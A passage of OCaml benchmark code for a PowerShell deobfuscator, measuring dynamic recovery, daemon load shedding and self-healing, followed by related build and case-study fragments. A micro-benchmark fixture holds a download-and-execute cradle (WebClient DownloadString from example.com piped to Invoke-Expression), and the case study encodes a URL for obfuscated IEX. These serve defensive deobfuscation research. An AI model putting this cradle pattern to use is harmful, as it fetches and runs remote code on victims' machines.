      here by a poisoned recorder's early return (same shape: branch and
      exit, no allocation) and scaled by the corpus's measured write
      volume.}} *)
let run_provenance () =
  line ();
  let module Guard = Pscommon.Guard in
  let count = 24 in
  let seed = 23 in
  let samples = Corpus.Generator.generate_dynamic ~seed ~count in
  let dir = Filename.temp_dir "bench_provenance" "" in
  let files =
    List.map
      (fun (s : Corpus.Generator.sample) ->
        let path = Filename.concat dir (Printf.sprintf "sample_%04d.ps1" s.id) in
        Out_channel.with_open_bin path (fun oc ->
            Out_channel.output_string oc s.obfuscated);
        path)
      samples
  in
  Printf.printf
    "dynamic provenance: %d dynamic-only samples (seed %d), static vs \
     dynamic\n"
    count seed;
  let static_options =
    { Deobf.Engine.default_options with
      recovery =
        { Deobf.Engine.default_options.Deobf.Engine.recovery with
          Deobf.Engine.use_dynamic = false } }
  in
  let run ~options ~verify tag =
    let out_dir = Filename.concat dir ("out_" ^ tag) in
    (* best of 3, as in the verify bench: these walls are small enough for
       one GC slice to read as tens of percent *)
    let best = ref infinity and last = ref None in
    for rep = 1 to 3 do
      let t0 = Guard.now () in
      let summary =
        Deobf.Batch.run_files ~options ~timeout_s:30.0
          ~out_dir:(Printf.sprintf "%s_r%d" out_dir rep) ~jobs:1 ~verify files
      in
      let wall = Guard.now () -. t0 in
      if wall < !best then best := wall;
      last := Some summary
    done;
    (Option.get !last, !best)
  in
  let _s_static, wall_static =
    run ~options:static_options ~verify:false "static"
  in
  let s_dyn, wall_dyn =
    run ~options:Deobf.Engine.default_options ~verify:true "dynamic"
  in
  let sum_stat f =
    List.fold_left
      (fun acc (o : Deobf.Batch.outcome) -> acc + f o.Deobf.Batch.stats)
      0 s_dyn.Deobf.Batch.outcomes
  in
  let attempted = sum_stat (fun st -> st.Deobf.Recover.dynamic_attempted) in
  let unverifiable = sum_stat (fun st -> st.Deobf.Recover.dynamic_unverifiable) in
  let recovered_rows =
    List.length
      (List.filter
         (fun (o : Deobf.Batch.outcome) ->
           o.Deobf.Batch.stats.Deobf.Recover.dynamic_recovered >= 1)
         s_dyn.Deobf.Batch.outcomes)
  in
  let tally v =
    List.length
      (List.filter
         (fun (o : Deobf.Batch.outcome) ->
           match o.Deobf.Batch.verdict with
           | Some verdict -> Deobf.Verify.verdict_name verdict = v
           | None -> false)
         s_dyn.Deobf.Batch.outcomes)
  in
  let equivalent = tally "equivalent" in
  let rolled_back = tally "rolled_back" in
  let diverged = tally "diverged" in
  let unverifiable_verdicts = tally "unverifiable" in
  (* write volume: one full sandbox execution per sample with a live
     recorder counts exactly the writes the disabled hook would see *)
  let writes_total =
    List.fold_left
      (fun acc (s : Corpus.Generator.sample) ->
        let env = Pseval.Env.create ~mode:Pseval.Env.Sandbox () in
        let p = Pseval.Provenance.create () in
        env.Pseval.Env.provenance <- Some p;
        ignore (Pseval.Interp.run_script env s.obfuscated);
        acc + Pseval.Provenance.count p)
      0 samples
  in
  let writes_per_sample = float_of_int writes_total /. float_of_int count in
  let percall_ns =
    let p = Pseval.Provenance.create ~cap:0 () in
    let extent = Pscommon.Extent.make ~start:0 ~stop:1 in
    (* first note trips the cap and poisons; every later call is the
       sticky early return we are timing *)
    Pseval.Provenance.note p ~var:"x" ~extent ~step:0 ~reads:[];
    let iters = 2_000_000 in
    let t0 = Guard.now () in
    for i = 1 to iters do
      Pseval.Provenance.note p ~var:"x" ~extent ~step:i ~reads:[]
    done;
    (Guard.now () -. t0) *. 1e9 /. float_of_int iters
  in
  let disabled_overhead_pct =
    if wall_static > 0.0 then
      100.0 *. (float_of_int writes_total *. percall_ns *. 1e-9) /. wall_static
    else 0.0
  in
  let majority = 2 * recovered_rows > count in
  let json =
    String.concat "\n"
      [
        "{";
        Printf.sprintf "  \"samples\": %d," count;
        Printf.sprintf "  \"seed\": %d," seed;
        Printf.sprintf "  \"wall_s_static\": %.3f," wall_static;
        Printf.sprintf "  \"wall_s_dynamic_verified\": %.3f," wall_dyn;
        Printf.sprintf
          "  \"dynamic\": {\"attempted\": %d, \"recovered_rows\": %d, \
           \"unverifiable\": %d},"
          attempted recovered_rows unverifiable;
        Printf.sprintf
          "  \"verdicts\": {\"equivalent\": %d, \"rolled_back\": %d, \
           \"diverged\": %d, \"unverifiable\": %d},"
          equivalent rolled_back diverged unverifiable_verdicts;
        Printf.sprintf "  \"recovered_majority\": %b," majority;
        Printf.sprintf "  \"writes_per_sample\": %.1f," writes_per_sample;
        Printf.sprintf "  \"disabled_percall_ns\": %.1f," percall_ns;
        Printf.sprintf "  \"disabled_overhead_pct\": %.4f" disabled_overhead_pct;
        "}";
      ]
  in
  Out_channel.with_open_bin "BENCH_provenance.json" (fun oc ->
      Out_channel.output_string oc (json ^ "\n"));
  Printf.printf "  static (dynamic off): %.2fs; dynamic + verify: %.2fs\n"
    wall_static wall_dyn;
  Printf.printf
    "  dynamic stage: %d regions attempted, %d/%d rows recovered, %d \
     unverifiable\n"
    attempted recovered_rows count unverifiable;
  Printf.printf
    "  verdicts: %d equivalent, %d rolled_back, %d diverged, %d \
     unverifiable\n"
    equivalent rolled_back diverged unverifiable_verdicts;
  Printf.printf
    "  disabled hook: %.1f writes/sample at %.1f ns/call, est. overhead \
     %.4f%%\n"
    writes_per_sample percall_ns disabled_overhead_pct;
  print_endline "  wrote BENCH_provenance.json";
  if not majority then begin
    Printf.eprintf
      "FAIL: dynamic stage recovered only %d of %d dynamic-only rows\n"
      recovered_rows count;
    exit 1
  end;
  if diverged > 0 then begin
    Printf.eprintf
      "FAIL: %d dynamic sample(s) diverged without a successful rollback\n"
      diverged;
    exit 1
  end;
  if disabled_overhead_pct > 1.0 then begin
    Printf.eprintf
      "FAIL: disabled provenance-hook overhead %.4f%% exceeds the 1%% \
       budget\n"
      disabled_overhead_pct;
    exit 1
  end

(* ---------- service mode (daemon throughput, overload, drain) ---------- *)

(* Is the daemon worth running?  The same fixed-seed corpus goes through
   (a) a cold one-shot batch run — the price of a fresh process per
   invocation, the daemon's competition — and (b) an in-process daemon
   over a Unix socket, twice: a cold pass and a warm pass that replays the
   identical requests against the now-populated per-worker piece cache.
   Request latency quantiles (p50/p99) come from the daemon's own
   [serve.request_ms] log2 histogram via {!Telemetry.Metrics.quantile}.
   A seeded chaos flood then hits the socket edges ([serve.*] at 10%) with
   2x queue-capacity load and reports the shed rate.  Fails loudly when
   the warm daemon is slower than the cold batch (the warm cache and
   amortized startup are the daemon's whole pitch), when any flood request
   goes unanswered, or when the drain does not exit 0. *)
let run_serve () =
  line ();
  let module Guard = Pscommon.Guard in
  let module Chaos = Pscommon.Chaos in
  let module T = Pscommon.Telemetry in
  let count = 24 in
  let seed = 42 in
  let samples = Corpus.Generator.generate ~seed ~count in
  let dir = Filename.temp_dir "bench_serve" "" in
  let files =
    List.map
      (fun (s : Corpus.Generator.sample) ->
        let path = Filename.concat dir (Printf.sprintf "sample_%04d.ps1" s.id) in
        Out_channel.with_open_bin path (fun oc ->
            Out_channel.output_string oc s.obfuscated);
        path)
      samples
  in
  Printf.printf "service mode: %d samples (seed %d), cold batch vs daemon\n"
    count seed;
  (* (a) cold batch: one-shot pipeline, fresh caches *)
  let t0 = Guard.now () in
  let _ =
    Deobf.Batch.run_files ~timeout_s:30.0
      ~out_dir:(Filename.concat dir "out_batch") ~jobs:1 files
  in
  let wall_batch = Guard.now () -. t0 in
  let batch_rps = float_of_int count /. wall_batch in
  (* (b) in-process daemon on a Unix socket *)
  let sock = Filename.concat dir "bench.sock" in
  let queue_cap = 8 in
  let cfg =
    {
      (Deobf.Serve.default_config (Deobf.Serve.Unix_sock sock)) with
      Deobf.Serve.jobs = 1;
      queue_cap;
    }
  in
  let server =
    match Deobf.Serve.start cfg with
    | Ok s -> s
    | Error e ->
        Printf.eprintf "FAIL: daemon did not start: %s\n" e;
        exit 1
  in
  let connect () =
    let fd = Unix.socket Unix.PF_UNIX Unix.SOCK_STREAM 0 in
    Unix.connect fd (Unix.ADDR_UNIX sock);
    fd
  in
  let send_all fd s =
    let n = String.length s in
    let off = ref 0 in
    while !off < n do
      off := !off + Unix.write_substring fd s !off (n - !off)
    done
  in
  (* read until [n] non-empty lines or EOF; the daemon answers every
     request, so a shortfall is itself a finding *)
  let read_lines fd n =
    let buf = Buffer.create 65536 in
    let chunk = Bytes.create 65536 in
    let deadline = Guard.now () +. 180.0 in
    let count_lines () =
      List.length
        (List.filter
           (fun l -> String.trim l <> "")
           (String.split_on_char '\n' (Buffer.contents buf)))
    in
    let eof = ref false in
    while (not !eof) && count_lines () < n && Guard.now () < deadline do
      match Unix.select [ fd ] [] [] 0.2 with
      | [], _, _ -> ()
      | _ -> (
          match Unix.read fd chunk 0 (Bytes.length chunk) with
          | 0 -> eof := true
          | k -> Buffer.add_subbytes buf chunk 0 k
          | exception Unix.Unix_error _ -> eof := true)
    done;
    List.filter
      (fun l -> String.trim l <> "")
      (String.split_on_char '\n' (Buffer.contents buf))
  in
  let daemon_pass tag =
    let fd = connect () in
    let t0 = Guard.now () in
    List.iteri
      (fun i (s : Corpus.Generator.sample) ->
        send_all fd
          (Printf.sprintf "{\"id\":\"%s-%d\",\"script\":%s}\n" tag i
             (T.json_string s.obfuscated)))
      samples;
    let lines = read_lines fd count in
    let wall = Guard.now () -. t0 in
    Unix.close fd;
    if List.length lines <> count then begin
      Printf.eprintf "FAIL: daemon %s pass answered %d/%d requests\n" tag
        (List.length lines) count;
      exit 1
    end;
    wall
  in
  let wall_cold = daemon_pass "cold" in
  let wall_warm = daemon_pass "warm" in
  let cold_rps = float_of_int count /. wall_cold in
  let warm_rps = float_of_int count /. wall_warm in
  (* latency quantiles over the two passes, before the flood skews them *)
  let p50, p99 =
    let snap = T.Metrics.snapshot () in
    match List.assoc_opt "serve.request_ms" snap.T.Metrics.histograms with
    | Some hs ->
        let q x =
          let v = T.Metrics.quantile hs x in
          if Float.is_nan v then 0.0 else v
        in
        (q 0.5, q 0.99)
    | None -> (0.0, 0.0)
  in
  (* chaos flood: every socket edge faulting at 10%, 2x queue capacity of
     deliberately slow requests so admission control actually sheds *)
  let flood_n = 2 * queue_cap in
  Chaos.set
    (Some
       {
         Chaos.seed = 7;
         rate = 0.0;
         site_rates =
           [
             ("serve.accept", 0.1); ("serve.read", 0.1); ("serve.write", 0.1);
             ("serve.queue", 0.1);
           ];
       });
  let flood_lines =
    let fd = connect () in
    let bomb = "$x = $(while (1 -lt 2) { 1 }; 'done')" in
    for i = 1 to flood_n do
      send_all fd
        (Printf.sprintf "{\"id\":\"f-%d\",\"script\":%s,\"timeout_s\":0.3}\n" i
           (T.json_string bomb))
    done;
    let lines = read_lines fd flood_n in
    Unix.close fd;
    lines
  in
  Chaos.set None;
  let flood_answered = List.length flood_lines in
  let shed =
    List.length
      (List.filter
         (fun l ->
           Deobf.Jsonl.string_field l "status" = Some "overloaded")
         flood_lines)
  in
  let shed_rate = float_of_int shed /. float_of_int flood_n in
  (* the daemon must have survived the flood: a fresh connection answers *)
  let alive =
    let fd = connect () in
    send_all fd "{\"op\":\"health\",\"id\":\"hb\"}\n";
    let lines = read_lines fd 1 in
    Unix.close fd;
    lines <> []
  in
  Deobf.Serve.stop server;
  let exit_code = Deobf.Serve.wait server in
  let json =
    String.concat "\n"
      [
        "{";
        Printf.sprintf "  \"samples\": %d," count;
        Printf.sprintf "  \"seed\": %d," seed;
        Printf.sprintf "  \"cold_batch_wall_s\": %.3f," wall_batch;
        Printf.sprintf "  \"cold_batch_rps\": %.2f," batch_rps;
        Printf.sprintf "  \"daemon_cold_wall_s\": %.3f," wall_cold;
        Printf.sprintf "  \"daemon_cold_rps\": %.2f," cold_rps;
        Printf.sprintf "  \"daemon_warm_wall_s\": %.3f," wall_warm;
        Printf.sprintf "  \"daemon_warm_rps\": %.2f," warm_rps;
        Printf.sprintf "  \"p50_ms\": %.3f," p50;
        Printf.sprintf "  \"p99_ms\": %.3f," p99;
        Printf.sprintf "  \"flood_requests\": %d," flood_n;
        Printf.sprintf "  \"flood_answered\": %d," flood_answered;
        Printf.sprintf "  \"shed\": %d," shed;
        Printf.sprintf "  \"shed_rate\": %.3f," shed_rate;
        Printf.sprintf "  \"daemon_alive_after_flood\": %b," alive;
        Printf.sprintf "  \"drain_exit_code\": %d" exit_code;
        "}";
      ]
  in
  Out_channel.with_open_bin "BENCH_serve.json" (fun oc ->
      Out_channel.output_string oc (json ^ "\n"));
  Printf.printf
    "  cold batch:  %.2fs (%.1f req/s)\n  daemon cold: %.2fs (%.1f req/s)\n\
    \  daemon warm: %.2fs (%.1f req/s)\n"
    wall_batch batch_rps wall_cold cold_rps wall_warm warm_rps;
  Printf.printf "  latency: p50 %.2f ms, p99 %.2f ms\n" p50 p99;
  Printf.printf
    "  flood: %d/%d answered under serve.* faults, %d shed (%.0f%%)\n"
    flood_answered flood_n shed (100.0 *. shed_rate);
  Printf.printf "  drain exit code: %d\n" exit_code;
  print_endline "  wrote BENCH_serve.json";
  if warm_rps < batch_rps then begin
    Printf.eprintf
      "FAIL: warm daemon (%.1f req/s) slower than cold batch (%.1f req/s)\n"
      warm_rps batch_rps;
    exit 1
  end;
  if flood_answered <> flood_n then begin
    Printf.eprintf "FAIL: flood answered %d/%d requests\n" flood_answered
      flood_n;
    exit 1
  end;
  if not alive then begin
    Printf.eprintf "FAIL: daemon unresponsive after the chaos flood\n";
    exit 1
  end;
  if exit_code <> 0 then begin
    Printf.eprintf "FAIL: drain exited %d\n" exit_code;
    exit 1
  end

(* ---------- self-healing: wedge MTTR, memory chaos, quarantine ---------- *)

(* Three adversarial passes against the supervision plane:
   (a) seeded [serve.wedge] chaos spins workers in checkpoint-free loops;
       the watchdog must answer each victim (MTTR gate: p99 within
       deadline + 2x grace) and a 2x-queue-cap flood must come back fully
       answered with the daemon alive;
   (b) the memory governor is driven through Soft/Hard overrides
       mid-stream; every pressured request must shed with
       [reason:"memory"] and nothing may go unanswered;
   (c) a seeded bad-rule script (the divergent loop fold the verify gate
       demonstrably rolls back) is replayed until quarantine trips; the
       gate is convergence — rollbacks stop once the breaker opens. *)
let run_selfheal () =
  line ();
  let module Guard = Pscommon.Guard in
  let module Chaos = Pscommon.Chaos in
  let module Memwatch = Pscommon.Memwatch in
  let module T = Pscommon.Telemetry in
  let module Q = Deobf.Quarantine in
  print_endline "self-healing: wedge MTTR, memory chaos, quarantine";
  let dir = Filename.temp_dir "bench_selfheal" "" in
  let sock = Filename.concat dir "selfheal.sock" in
  let queue_cap = 8 in
  let timeout_s = 0.3 and grace_s = 0.4 in
  let cfg =
    {
      (Deobf.Serve.default_config (Deobf.Serve.Unix_sock sock)) with
      Deobf.Serve.jobs = 2;
      queue_cap;
      default_timeout_s = timeout_s;
      max_timeout_s = 5.0;
      grace_s;
    }
  in
  (* every fault below is seeded: same sequence every run *)
  Chaos.set
    (Some
       { Chaos.seed = 11; rate = 0.0; site_rates = [ ("serve.wedge", 0.3) ] });
  let server =
    match Deobf.Serve.start cfg with
    | Ok s -> s
    | Error e ->
        Printf.eprintf "FAIL: daemon did not start: %s\n" e;
        exit 1
  in
  let connect () =
    let fd = Unix.socket Unix.PF_UNIX Unix.SOCK_STREAM 0 in
    Unix.connect fd (Unix.ADDR_UNIX sock);
    fd
  in
  let send_all fd s =
    let n = String.length s in
    let off = ref 0 in
    while !off < n do
      off := !off + Unix.write_substring fd s !off (n - !off)
    done
  in
  let read_lines fd n =
    let buf = Buffer.create 65536 in
    let chunk = Bytes.create 65536 in
    let deadline = Guard.now () +. 180.0 in
    let count_lines () =
      List.length
        (List.filter
           (fun l -> String.trim l <> "")
           (String.split_on_char '\n' (Buffer.contents buf)))
    in
    let eof = ref false in
    while (not !eof) && count_lines () < n && Guard.now () < deadline do
      match Unix.select [ fd ] [] [] 0.2 with
      | [], _, _ -> ()
      | _ -> (
          match Unix.read fd chunk 0 (Bytes.length chunk) with
          | 0 -> eof := true
          | k -> Buffer.add_subbytes buf chunk 0 k
          | exception Unix.Unix_error _ -> eof := true)
    done;
    List.filter
      (fun l -> String.trim l <> "")
      (String.split_on_char '\n' (Buffer.contents buf))
  in
  (* (a) sequential MTTR probe: one request in flight, so each wedged
     round-trip isolates detect + answer + respawn *)
  let script = "Write-Output ('he'+'al')" in
  let probe_n = 20 in
  let wedged_rtts = ref [] and ok_n = ref 0 and unanswered = ref 0 in
  let fd = connect () in
  for i = 1 to probe_n do
    let t0 = Guard.now () in
    send_all fd
      (Printf.sprintf "{\"id\":\"m-%d\",\"script\":%s}\n" i
         (T.json_string script));
    match read_lines fd 1 with
    | [] -> incr unanswered
    | l :: _ ->
        let rtt = Guard.now () -. t0 in
        if Deobf.Jsonl.string_field l "kind" = Some "wedged" then
          wedged_rtts := rtt :: !wedged_rtts
        else incr ok_n
  done;
  Unix.close fd;
  let wedge_n = List.length !wedged_rtts in
  let mttr_p99 =
    match List.sort compare !wedged_rtts with
    | [] -> 0.0
    | sorted ->
        let i =
          min (List.length sorted - 1)
            (int_of_float (ceil (0.99 *. float_of_int (List.length sorted))) - 1)
        in
        List.nth sorted (max 0 i)
  in
  let mttr_budget = timeout_s +. (2.0 *. grace_s) in
  (* (a') wedge flood: 2x queue capacity pipelined under the same chaos;
     the only gate is that every line is answered and the daemon lives *)
  let flood_n = 2 * queue_cap in
  let flood_lines =
    let fd = connect () in
    for i = 1 to flood_n do
      send_all fd
        (Printf.sprintf "{\"id\":\"w-%d\",\"script\":%s}\n" i
           (T.json_string script))
    done;
    let lines = read_lines fd flood_n in
    Unix.close fd;
    lines
  in
  let flood_answered = List.length flood_lines in
  Chaos.set None;
  (* (b) memory chaos: force the governor through its levels and check
     the shed contract; overrides flip between fully-answered segments,
     so the request<->level pairing is deterministic *)
  let mem_segment ~tag n =
    let fd = connect () in
    for i = 1 to n do
      send_all fd
        (Printf.sprintf "{\"id\":\"%s-%d\",\"script\":%s}\n" tag i
           (T.json_string script))
    done;
    let lines = read_lines fd n in
    Unix.close fd;
    lines
  in
  let seg_ok = mem_segment ~tag:"n0" 6 in
  Memwatch.set_override (Some Memwatch.Soft);
  let seg_soft = mem_segment ~tag:"soft" 6 in
  Memwatch.set_override (Some Memwatch.Hard);
  let seg_hard = mem_segment ~tag:"hard" 4 in
  Memwatch.set_override None;
  let seg_after = mem_segment ~tag:"n1" 6 in
  let mem_sent = 6 + 6 + 4 + 6 in
  let mem_answered =
    List.length seg_ok + List.length seg_soft + List.length seg_hard
    + List.length seg_after
  in
  let shed_memory =
    List.length
      (List.filter
         (fun l ->
           Deobf.Jsonl.string_field l "status" = Some "overloaded"
           && Deobf.Jsonl.string_field l "reason" = Some "memory")
         (seg_soft @ seg_hard))
  in
  let mem_contract_ok = shed_memory = List.length seg_soft + List.length seg_hard in
  let alive =
    let fd = connect () in
    send_all fd "{\"op\":\"health\",\"id\":\"hb\"}\n";
    let lines = read_lines fd 1 in
    Unix.close fd;
    lines <> []
  in
  Deobf.Serve.stop server;
  let exit_code = Deobf.Serve.wait server in
  let snap = T.Metrics.snapshot () in
  let counter name =
    match List.assoc_opt name snap.T.Metrics.counters with
    | Some n -> n
    | None -> 0
  in
  (* (c) quarantine convergence: replay a script whose rewrites the verify
     gate rolls back on every request.  The loop-carried fold that used to
     diverge on its own is recovered correctly now (the dynamic stage
     substitutes the true final value), so the rollback is forced the same
     way the resilience suite does it: a seeded fault at the gate's
     [verify.diff] comparison reads as divergence and walks every edit
     back — including the [recover.dynamic.loop] edit, so the breaker is
     exercised on the dynamic rule keys too *)
  let bad_src =
    "$x = 'a'\nforeach ($i in 1..3) { $x = $x + 'b' }\nWrite-Output $x"
  in
  Chaos.set
    (Some { Chaos.seed = 11; rate = 0.0; site_rates = [ ("verify.diff", 1.0) ] });
  Q.reset ();
  Q.set_enabled true;
  Q.configure ~k:3 ~window_s:300.0 ~cooldown_s:3600.0 ();
  let replay = 8 in
  let tripped_at = ref None and rolled_pre = ref 0 and rolled_post = ref 0 in
  for i = 1 to replay do
    let o, _out =
      Deobf.Batch.run_source ~verify:true
        ~name:(Printf.sprintf "bad-%d" i) bad_src
    in
    let rolled =
      match o.Deobf.Batch.verdict with
      | Some (Deobf.Verify.Rolled_back n) -> n > 0
      | _ -> false
    in
    (match !tripped_at with
    | None ->
        if rolled then incr rolled_pre;
        if Q.snapshot () <> [] then tripped_at := Some i
    | Some _ -> if rolled then incr rolled_post)
  done;
  let quarantined_rules = Q.snapshot () in
  Chaos.set None;
  Q.set_enabled false;
  Q.reset ();
  let json =
    String.concat "\n"
      [
        "{";
        Printf.sprintf "  \"probe_requests\": %d," probe_n;
        Printf.sprintf "  \"wedged\": %d," wedge_n;
        Printf.sprintf "  \"wedge_mttr_p99_s\": %.3f," mttr_p99;
        Printf.sprintf "  \"wedge_mttr_budget_s\": %.3f," mttr_budget;
        Printf.sprintf "  \"flood_requests\": %d," flood_n;
        Printf.sprintf "  \"flood_answered\": %d," flood_answered;
        Printf.sprintf "  \"workers_respawned\": %d,"
          (counter "pool.service.respawns");
        Printf.sprintf "  \"mem_requests\": %d," mem_sent;
        Printf.sprintf "  \"mem_answered\": %d," mem_answered;
        Printf.sprintf "  \"mem_shed_with_reason\": %d," shed_memory;
        Printf.sprintf "  \"cache_shrinks\": %d,"
          (counter "recover.cache.shrinks");
        Printf.sprintf "  \"daemon_alive\": %b," alive;
        Printf.sprintf "  \"drain_exit_code\": %d," exit_code;
        Printf.sprintf "  \"quarantine_replay\": %d," replay;
        Printf.sprintf "  \"quarantine_tripped_at\": %s,"
          (match !tripped_at with Some i -> string_of_int i | None -> "null");
        Printf.sprintf "  \"rollbacks_before_trip\": %d," !rolled_pre;
        Printf.sprintf "  \"rollbacks_after_trip\": %d," !rolled_post;
        Printf.sprintf "  \"quarantined_rules\": [%s]"
          (String.concat ", "
             (List.map
                (fun (r, s) -> Printf.sprintf "{\"rule\": %s, \"state\": %s}"
                   (T.json_string r) (T.json_string s))
                quarantined_rules));
        "}";
      ]
  in
  Out_channel.with_open_bin "BENCH_selfheal.json" (fun oc ->
      Out_channel.output_string oc (json ^ "\n"));
  Printf.printf
    "  wedge probe: %d/%d wedged, MTTR p99 %.2fs (budget %.2fs)\n"
    wedge_n probe_n mttr_p99 mttr_budget;
  Printf.printf "  wedge flood: %d/%d answered, %d respawns\n" flood_answered
    flood_n (counter "pool.service.respawns");
  Printf.printf
    "  memory chaos: %d/%d answered, %d shed with reason=memory, %d cache \
     shrink(s)\n"
    mem_answered mem_sent shed_memory
    (counter "recover.cache.shrinks");
  Printf.printf
    "  quarantine: tripped at request %s, rollbacks %d before / %d after\n"
    (match !tripped_at with Some i -> string_of_int i | None -> "never")
    !rolled_pre !rolled_post;
  print_endline "  wrote BENCH_selfheal.json";
  if !unanswered > 0 then begin
    Printf.eprintf "FAIL: %d MTTR probe request(s) unanswered\n" !unanswered;
    exit 1
  end;
  if wedge_n = 0 then begin
    Printf.eprintf "FAIL: seeded chaos produced no wedged workers\n";
    exit 1
  end;
  if mttr_p99 > mttr_budget then begin
    Printf.eprintf "FAIL: wedge MTTR p99 %.3fs over budget %.3fs\n" mttr_p99
      mttr_budget;
    exit 1
  end;
  if flood_answered <> flood_n then begin
    Printf.eprintf "FAIL: wedge flood answered %d/%d\n" flood_answered flood_n;
    exit 1
  end;
  if mem_answered <> mem_sent then begin
    Printf.eprintf "FAIL: memory chaos answered %d/%d\n" mem_answered mem_sent;
    exit 1
  end;
  if not mem_contract_ok then begin
    Printf.eprintf
      "FAIL: %d pressured responses, only %d carried reason=memory\n"
      (List.length seg_soft + List.length seg_hard)
      shed_memory;
    exit 1
  end;
  if not alive then begin
    Printf.eprintf "FAIL: daemon unresponsive after self-heal run\n";
    exit 1
  end;
  if exit_code <> 0 then begin
    Printf.eprintf "FAIL: drain exited %d\n" exit_code;
    exit 1
  end;
  (match !tripped_at with
  | None ->
      Printf.eprintf "FAIL: quarantine never tripped on the bad-rule corpus\n";
      exit 1
  | Some i when i > 4 ->
      Printf.eprintf "FAIL: quarantine tripped only at request %d (K=3)\n" i;
      exit 1
  | Some _ -> ());
  if !rolled_post > 0 then begin
    Printf.eprintf
      "FAIL: %d rollback(s) after the breaker opened — no convergence\n"
      !rolled_post;
    exit 1
  end

(* ---------- Bechamel micro-benchmarks ---------- *)

let micro_tests () =
  let open Bechamel in
  let sample =
    let rng = Pscommon.Rng.of_int 5 in
    Obfuscator.Obfuscate.multilayer rng 2
      "$u = 'https://example.com/payload.txt'\n\
       (New-Object Net.WebClient).DownloadString($u) | Invoke-Expression"
  in
  let simple = "('wri'+'te-host') ('he'+'llo')" in
  (* compiled-vs-walk: the same piece through the per-call parse+walk of
     Interp.invoke_piece and through a program compiled once outside the
     measured loop — the recovery fixpoint's repeat-execution shape *)
  let piece = "(('In'+'voke')+('-Ex'+'pression'))+[string](17*3+2)" in
  let compiled = Pseval.Compile.compile piece in
  [
    Test.make ~name:"lexer/multilayer-sample"
      (Staged.stage (fun () -> ignore (Pslex.Lexer.tokenize sample)));
    Test.make ~name:"parser/multilayer-sample"
      (Staged.stage (fun () -> ignore (Psparse.Parser.parse sample)));
    Test.make ~name:"interp/concat-piece"
      (Staged.stage (fun () ->
           let env = Pseval.Env.create () in
           ignore (Pseval.Interp.invoke_piece env "'he'+'llo'")));
    Test.make ~name:"pseval/piece-walked"
      (Staged.stage (fun () ->
           let env = Pseval.Env.create () in
           ignore (Pseval.Interp.invoke_piece env piece)));
    Test.make ~name:"pseval/piece-compiled"
      (Staged.stage (fun () ->
           let env = Pseval.Env.create () in
           ignore (Pseval.Compile.run env compiled)));
    Test.make ~name:"deobf/simple"
      (Staged.stage (fun () -> ignore (Deobf.Engine.run simple)));
    Test.make ~name:"deobf/multilayer"
      (Staged.stage (fun () -> ignore (Deobf.Engine.run sample)));
    Test.make ~name:"score/multilayer-sample"
      (Staged.stage (fun () -> ignore (Deobf.Score.score sample)));
    Test.make ~name:"deflate/roundtrip-1k"
      (Staged.stage (fun () ->
           let data =
             String.concat "" (List.init 128 (fun i -> Printf.sprintf "line %d;" i))
           in
           ignore (Encoding.Inflate.inflate_exn (Encoding.Deflate.deflate data))));
  ]

let run_micro () =
  line ();
  print_endline "Bechamel micro-benchmarks (monotonic clock)";
  let open Bechamel in
  let instance = Toolkit.Instance.monotonic_clock in
  let cfg = Benchmark.cfg ~limit:300 ~quota:(Time.second 0.5) () in
  List.iter
    (fun test ->
      let results = Benchmark.all cfg [ instance ] (Test.make_grouped ~name:"micro" [ test ]) in
      let analyzed =
        Analyze.all
          (Analyze.ols ~bootstrap:0 ~r_square:false ~predictors:[| Measure.run |])
          instance results
      in
      Hashtbl.iter
        (fun name ols ->
          match Analyze.OLS.estimates ols with
          | Some [ est ] -> Printf.printf "  %-36s %14.1f ns/run\n" name est
          | Some _ | None -> Printf.printf "  %-36s (no estimate)\n" name)
        analyzed)
    (micro_tests ())

let registry =
  [ ("table1", run_table1); ("table2", run_table2); ("fig5", run_fig5);
    ("fig6", run_fig6); ("table3", run_table3); ("table4", run_table4);
    ("table5", run_table5); ("case", run_case); ("ablate", run_ablate);
    ("amsi", run_amsi); ("unknown", run_unknown); ("limits", run_limits);
    ("funnel", run_funnel); ("throughput", run_throughput);
    ("obs", run_obs); ("resilience", run_resilience); ("verify", run_verify);
    ("provenance", run_provenance); ("serve", run_serve);
    ("selfheal", run_selfheal); ("micro", run_micro) ]

let () =
  match Array.to_list Sys.argv with
  | _ :: (_ :: _ as names) ->
      List.iter
        (fun name ->
          match List.assoc_opt name registry with
          | Some f -> f ()
          | None ->
              Printf.eprintf "unknown experiment %s; available: %s\n" name
                (String.concat " " (List.map fst registry));
              exit 1)
        names
  | _ ->
      (* micro, throughput and serve are long-running timing suites (serve
         additionally spins a live daemon): explicit only *)
      List.iter
        (fun (name, f) ->
          if name <> "micro" && name <> "throughput" && name <> "serve" then
            f ())
        registry
