(** Mode-aware PowerShell tokenizer.

    PowerShell lexing is context-sensitive: a bareword is a command name at
    the start of a pipeline element, an argument inside one, and (mostly) an
    error in expression position; [-word] is a parameter in argument position
    but an operator ([-f], [-join], …) in expression position; [\[...\]] is a
    type literal where an operand is expected and an index after a value.
    The lexer tracks exactly that state, like the real PSParser. *)

type error = { message : string; position : int }

val tokenize : string -> (Token.t list, error) result
(** Token stream in source order.  Whitespace is skipped (token extents
    preserve positions); comments, newlines and line continuations are
    tokens. *)

val tokenize_exn : string -> Token.t list
(** @raise Failure on lexical errors. *)

val is_keyword : string -> bool
(** Caseless PowerShell statement-keyword test. *)

val keyword_canonical : string -> string option
(** Canonical (lowercase) spelling of a keyword. *)

val dash_operators : string list
(** The [-word] operator names ([f], [eq], [join], …), lowercase, without
    the dash. *)
