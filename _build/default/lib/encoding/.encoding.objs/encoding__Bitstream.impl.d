lib/encoding/bitstream.ml: Buffer Char String
