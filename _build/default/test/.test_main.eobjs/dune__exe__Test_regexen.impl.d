test/test_regexen.ml: Alcotest Gen List Option QCheck QCheck_alcotest Regex Regexen String
