lib/pslex/aliases.ml: List Pscommon Strcase
