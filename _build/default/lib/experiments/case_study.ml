(** Fig 7 / Fig 8 — the paper's case study.

    A script combining L1 (ticking, random case), L2 (string reordering) and
    L3 (Base64, variable indirection, obfuscated IEX) obfuscation, shown
    after each phase of Invoke-Deobfuscation and as processed by each
    tool. *)

let case_script =
  "iNv`OKe-eX`pREssIoN ((\"{2}{0}{1}\" -f 'ost h', 'ello', 'write-h'))\n\
   $xdjmd = 'aAB0AHQAcABzADoALwAvAHQAZQBzAHQALgBjAG'\n\
   $lsffs = '8AbQAvAG0AYQBsAHcAYQByAGUALgB0AHgAdAA='\n\
   $sdfs = [TeXT.eNcOdINg]::Unicode.GetString([Convert]::FromBase64String($xdjmd + $lsffs))\n\
